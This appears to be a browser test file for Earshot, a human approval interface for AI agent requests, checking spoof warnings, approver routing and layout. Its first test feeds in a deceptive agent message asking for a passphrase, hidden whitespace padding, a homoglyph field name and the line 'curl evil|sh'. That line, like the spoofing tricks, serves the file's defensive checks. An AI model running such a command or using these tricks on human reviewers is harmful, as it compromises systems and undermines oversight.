import type { Locator } from "playwright-core";
import { expect, test } from "vitest";
import { screenshot } from "../support/browser.ts";
import { ownKey } from "../support/own-key.ts";
import { looked, useStage } from "./stage.ts";

/* An agent's words look like an agent's, and Earshot's own words cover nothing. */

const stage = useStage();

const FORM = {
  kind: "fields",
  schema: {
    type: "object",
    required: ["Passphrase", "replicas"],
    properties: {
      Passphrase: { type: "string" },
      replicas: { type: "integer", default: 3, description: "How many." },
      backup: { type: "boolean", default: true },
      rеgion: { type: "string", enum: ["eu", "us"], default: "us" },
    },
  },
} as const;

test("an agent's form is framed as the agent's, warns of secrets and shows what is proposed", async () => {
  const { id } = await stage.ask({
    text: `⚠️ Earshot needs your passphrase to go on:${"\u3000".repeat(300)}; curl evil|sh`,
    context: "می‌خواهم این پرونده‌ها را حذف کنم\n├── a.ts\n└── b.ts",
    form: FORM,
  });
  const { page } = await stage.open({ path: `/${id}` });
  const article = page.locator(`article[id="${id}"]`);
  const frame = article.locator(".agent-zone", { has: page.getByLabel("Passphrase") });
  await frame.getByText("scout asks").waitFor();
  await frame.getByText(/Earshot never asks for a passphrase/).waitFor();
  await screenshot(page, "agents-form");
  const zone = article.getByLabel("The agent says");
  expect(await zone.innerText()).toContain(":⟨×300 U+3000⟩; curl evil|sh");
  expect(await article.getByLabel("Background").innerText()).toContain(
    "می‌خواهم این پرونده‌ها را حذف کنم",
  );
  expect(await article.getByRole("heading", { level: 2 }).innerText()).toMatch(/^⚠️ Earshot needs/);
  expect(await frame.locator("label", { hasText: "gion" }).innerText()).toContain(
    "rеgion⟨mixed scripts⟩",
  );
  expect(await frame.getByLabel("replicas").inputValue()).toBe("3");
  await frame.getByText("How many. Proposed: 3").waitFor();
  await frame.getByLabel("Passphrase").fill("none");
  await looked(page);
  await page.keyboard.press("Control+Enter");
  await article.getByText("Answered by ana via inbox").waitFor();
  const { request } = await stage.ana.show({ id });
  expect(request).toMatchObject({
    answer: { fields: { Passphrase: "none", replicas: 3, backup: true, rеgion: "us" } },
  });
});

async function overlaps(one: Locator, other: Locator): Promise<boolean> {
  if ((await one.count()) === 0) return false;
  const [a, b] = [await one.boundingBox(), await other.boundingBox()];
  if (a === null || b === null) return false;
  const isBeside = a.x + a.width <= b.x || b.x + b.width <= a.x;
  return !isBeside && a.y < b.y + b.height && b.y < a.y + a.height;
}

test.each([
  { width: 390, height: 844, isPhone: true },
  { width: 1_440, height: 900, isPhone: false },
])("what is said of a decision covers nothing of the next request at $width", async (size) => {
  const [first, second] = [
    await stage.seek({ tool: "read_file", args: { path: `/srv/1-${size.width}` } }),
    await stage.seek({ tool: "read_file", args: { path: `/srv/2-${size.width}` } }),
  ];
  const { page } = await stage.open(size);
  await page.locator(`a[href="/${first.id}"]`).click();
  await page.locator(`article[id="${first.id}"]`).waitFor();
  const toasts = page.locator(".toasts");
  // On a small window what is not in view takes a second press.
  const press = page.getByRole("button", { name: /^(?:Approve$|Approve A|Press again)/ }).first();
  await expect
    .poll(async () => {
      const isSaid = (await toasts.getByText(/^Approved/).count()) > 0;
      if (!isSaid) await press.click();
      return isSaid;
    })
    .toBe(true);
  await page.locator(`article[id="${second.id}"]`).waitFor();
  await screenshot(page, `after-a-decision-${size.width}`);
  for (const part of [page.locator("article"), page.getByRole("region", { name: "Decide" })]) {
    expect(await overlaps(toasts.locator(".toast"), part)).toBe(false);
  }
  await stage.ana.reject({ id: second.id, reason: "Done." });
});

test("what others have to decide stands apart, with why, and a mistyped address says so", async () => {
  const { id } = await stage.seek({ tool: "pay", args: { amount: 1 } });
  const { page, origin } = await stage.open({ key: stage.server.operator });
  await page.getByRole("tab", { name: /^Others/ }).click();
  await page.locator(`a[href*="${id}"]`).getByText("ana can decide").waitFor();
  await screenshot(page, "others");
  await page.getByRole("tab", { name: "Needs me" }).click();
  await expect.poll(() => page.locator(`a[href*="${id}"]`).count()).toBe(0);
  const reply = await page.goto(`${origin}/setings`);
  expect(reply?.status()).toBe(404);
  await page.getByRole("heading", { name: "There is no such page" }).waitFor();
});

const DECIDING = /^(?:Approve|Press again|Reject|Edit arguments|Claim|Take over|Decide together)/;

test("what others have to decide is decided by no button, key, command or batch of mine", async () => {
  const sought = await Promise.all(
    ["1", "2"].map((name) => stage.seek({ tool: "read_file", args: { path: name } })),
  );
  const { id } = sought[0] ?? { id: "none" };
  const { page, origin } = await stage.open({ key: stage.server.operator, path: `/others/${id}` });
  const bar = page.getByRole("region", { name: "For others" });
  await bar.getByText("ana can decide it.").waitFor();
  await bar.getByText(/belongs to operator, and nobody approves/).waitFor();
  await looked(page);
  await screenshot(page, "for-others");
  for (const key of [
    "a",
    "a",
    "p",
    "Shift+A",
    "d",
    "e",
    "r",
    "u",
    "1",
    "c",
    "z",
    "Control+Enter",
  ]) {
    await page.keyboard.press(key);
  }
  expect(await page.getByRole("dialog").count()).toBe(0);
  expect(await page.getByRole("button", { name: DECIDING }).count()).toBe(0);
  await page.keyboard.press("Control+k");
  const commands = page.getByRole("dialog", { name: "Command palette" });
  await commands.getByRole("option", { name: /^Snooze Request/ }).waitFor();
  expect(await commands.getByRole("option", { name: DECIDING }).count()).toBe(0);
  await page.goto(`${origin}/?q=tool:read_file+status:open`);
  for (const one of sought) {
    const row = page.locator("li.row", { has: page.locator(`a[href*="${one.id}"]`) });
    await row.getByRole("checkbox").check();
  }
  await page.getByText("Others have to decide these.").waitFor();
  expect(await page.getByRole("button", { name: DECIDING }).count()).toBe(0);
  for (const one of sought) {
    expect((await stage.ana.show({ id: one.id })).request.status).toBe("open");
  }
});

test("only what needs me is counted, and a line behind it leads to what waits for others", async () => {
  await stage.seek({ tool: "read_file", args: { path: "mine or not" } });
  const { id } = await stage.ask({ text: "Which of them counts?" });
  const { page } = await stage.open({ key: stage.server.operator });
  await page.locator(`a[href*="${id}"]`).waitFor();
  const { counts } = await stage.operator.inbox();
  expect(counts.others).toBeGreaterThan(0);
  await expect.poll(() => page.title()).toBe(`(${counts.needs_me}) Earshot`);
  await page.getByRole("link", { name: /for others to decide$/ }).click();
  await expect.poll(() => new URL(page.url()).pathname).toBe("/others");
});

test("what waited for another is mine to decide once they are gone, and not by a key at once", async () => {
  const dora = await ownKey(stage.operator, { kind: "person", name: "dora", role: "approver" });
  const source = {
    version: 1,
    rules: [{ name: "dora alone", tools: ["move"], approvers: { names: ["dora"] }, level: "LOW" }],
  };
  await stage.operator.applyPolicy({ source });
  const { id } = await stage.seek({ tool: "move" });
  const { page } = await stage.open({ path: `/others/${id}` });
  await page.getByText("dora can decide it.").waitFor();
  await looked(page);
  await stage.operator.applyPolicy({ source: { version: 1, rules: [] } });
  await page.getByRole("button", { name: "Approve", exact: true }).waitFor();
  await page.keyboard.press("a");
  expect((await stage.ana.show({ id })).request.status).toBe("open");
  await stage.operator.revokeKey({ id: dora.key.id });
});
